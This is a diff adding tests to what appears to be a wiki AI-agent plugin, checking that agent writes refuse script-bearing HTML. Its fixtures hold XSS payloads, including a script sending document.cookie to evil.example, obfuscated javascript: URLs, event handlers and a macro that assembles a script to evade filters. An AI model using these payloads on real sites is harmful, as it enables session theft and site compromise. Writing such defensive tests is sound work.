@@ -207,6 +207,85 @@ describe('writes are checked as they would land', () => {
   });
 });
 
+describe('script-bearing HTML is refused in every agent write (issue 23)', () => {
+  const SRCDOC = 'an <iframe srcdoc>';
+  const HANDLER = 'an event handler attribute';
+  const JS = 'a javascript: URL';
+  /** [title, fields of the note, the rule its refusal must name] */
+  const NOTES: [string, Record<string, string>, string][] = [
+    ['Script tag', { text: 'Hello <script>fetch("https://evil.example/?"+document.cookie)</script>' }, 'a <script> element'],
+    ['Script upper', { text: '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>' }, 'a <script> element'],
+    ['Script genesis', { text: '<$genesis $type="script">alert(1)</$genesis>' }, 'a <script> element'],
+    ['Script in code', { text: '```html\n<script>alert(1)</script>\n```' }, 'a <script> element'],
+    ['Srcdoc frame', { text: '<iframe srcdoc="<script>parent.$tw.wiki.addTiddler({title: \'Pwned\'})</script>"></iframe>' }, SRCDOC],
+    ['Object tag', { text: '<object data="https://evil.example/x.swf"></object>' }, 'an <object> element'],
+    ['Embed tag', { text: '<embed src="https://evil.example/x.swf">' }, 'an <embed> element'],
+    ['Js link', { text: '<a href="javascript:alert(1)">Click</a>' }, JS],
+    ['Js ext link', { text: '[ext[Click|javascript:alert(1)]]' }, JS],
+    ['Js pretty link', { text: '[[Click|javascript:alert(1)]]' }, JS],
+    ['Js markdown', { text: '[Click](javascript:alert(1))', type: 'text/markdown' }, JS],
+    ['Js entity', { text: '<svg><a xlink:href="javascript&colon;alert(1)"><text>x</text></a></svg>' }, JS],
+    ['Js tab', { text: '<a href="java&#x09;script:alert(1)">x</a>' }, JS],
+    ['Vbscript', { text: '<a href="vbscript:msgbox(1)">x</a>' }, 'a vbscript: URL'],
+    ['Html data url', { text: '<iframe src="data:text/html,<b>x</b>"></iframe>' }, 'an HTML data: URL'],
+    ['Handler', { text: '<img/onerror=alert(1) src=x>' }, `${HANDLER} (onerror=)`],
+    ['Handler svg', { text: '<svg onload="alert(1)"></svg>' }, `${HANDLER} (onload=)`],
+    ['Handler in field', { text: 'fine', caption: '<img src=x ONERROR=alert(1)>' }, `${HANDLER} (onerror=) in the field "caption"`],
+    ['Handler in button', { text: '<$button actions="""<div onclick=alert(1)/>""">Go</$button>' }, `${HANDLER} (onclick=)`],
+    // Put together by a macro when shown: only the rendering holds the frame.
+    ['Built frame', { text: '\\define m(a,b,c,d,e,f) <$a$$b$ $c$$d$="$e$$f$"></$a$$b$>\n\n<<m ifr ame src doc "<scr" "ipt>alert(1)</scr">>' }, `would render script-bearing HTML: ${SRCDOC}`],
+  ];
+
+  test.each(NOTES)('%s: refused, naming the rule, and nothing lands', async (title, note, rule) => {
+    const { caption, ...args } = note;
+    const { results } = await attack([['c1', 'wiki-create', { title, ...args, ...(caption ? { fields: { caption } } : {}) }]]);
+    expect(results.get('c1')!['tool-status']).toBe('error');
+    expect(results.get('c1')!.text).toMatch(/^Refused: /);
+    expect(results.get('c1')!.text).toContain(rule);
+    expect(h.$tw.wiki.tiddlerExists(title)).toBe(false);
+  });
+
+  test('an edit, an update and a user tool cannot add one either; ordinary words still land', async () => {
+    h.$tw.wiki.addTiddler({ title: 'Tool/framer', tags: '$:/tags/AI/Tool', name: 'framer', approval: 'auto', text: '<$action-setfield $tiddler="Framed" text="""<iframe srcdoc="<script>alert(1)</script>"/>"""/>' });
+    const garden = fields('Garden')!;
+    const { results } = await attack(
+      [
+        ['c1', 'wiki-edit', { title: 'Garden', modified: garden.modified, edits: [{ find: 'May.', replace: 'May. <img src=x onerror=alert(1)>' }] }],
+        ['c2', 'wiki-update', { title: 'Garden', modified: garden.modified, text: '<a href="javascript:alert(1)">Plant</a>' }],
+        ['c3', 'framer', {}],
+        ['c4', 'wiki-create', { title: 'Onions', text: 'The onion = 3; the object is to embed a script in the story. <span class="online">ok</span>' }],
+      ],
+      { 'agent-tools': `${ALL_TOOLS()} framer` },
+    );
+    expect(results.get('c1')!.text).toContain(`${HANDLER} (onerror=)`);
+    expect(results.get('c2')!.text).toContain(JS);
+    expect(results.get('c3')!['tool-status']).toBe('error');
+    expect(results.get('c3')!.text).toContain(SRCDOC);
+    expect(results.get('c4')!['tool-status']).toBe('ok');
+    expect(fields('Garden')).toEqual(garden);
+    expect(h.$tw.wiki.tiddlerExists('Framed')).toBe(false);
+    expect(h.$tw.wiki.getTiddlerText('Onions')).toContain('onion = 3');
+  });
+
+  test("the user's own tiddler with such HTML: the agent may delete it (a rollback restores it) but not keep it in a write", async () => {
+    const own = { title: 'My embed', text: '<iframe srcdoc="<p>My own page</p>"></iframe>', modified: '20260101000000000' };
+    h.$tw.wiki.addTiddler(own);
+    const { chat, results } = await attack([
+      ['c1', 'wiki-update', { title: 'My embed', modified: own.modified, tags: ['Notes'] }],
+      ['c2', 'wiki-rename', { title: 'My embed', modified: own.modified, newTitle: 'Their embed' }],
+      ['c3', 'wiki-delete', { title: 'My embed', modified: own.modified }],
+    ]);
+    expect(results.get('c1')!.text).toContain(SRCDOC);
+    expect(results.get('c2')!.text).toContain(SRCDOC);
+    expect(results.get('c3')!['tool-status']).toBe('ok');
+    expect(h.$tw.wiki.tiddlerExists('My embed')).toBe(false);
+    const user = h.messages(chat).find((m) => m.role === 'user')!.title!;
+    const runner = scriptedRunner(h, scriptedModel([]).model, tools);
+    expect((await runner.rollback(chat, user, true)).restored).toEqual(['My embed']);
+    expect(h.$tw.wiki.getTiddlerText('My embed')).toBe(own.text);
+  });
+});
+
 describe('what the user is asked to approve', () => {
   test('a pending write carries exactly what would land: every field, before and after', async () => {
     h.$tw.wiki.addTiddler({ title: 'Recipe', text: 'Flour', tags: 'Food', caption: 'Bread', modified: '20260101000000000' });
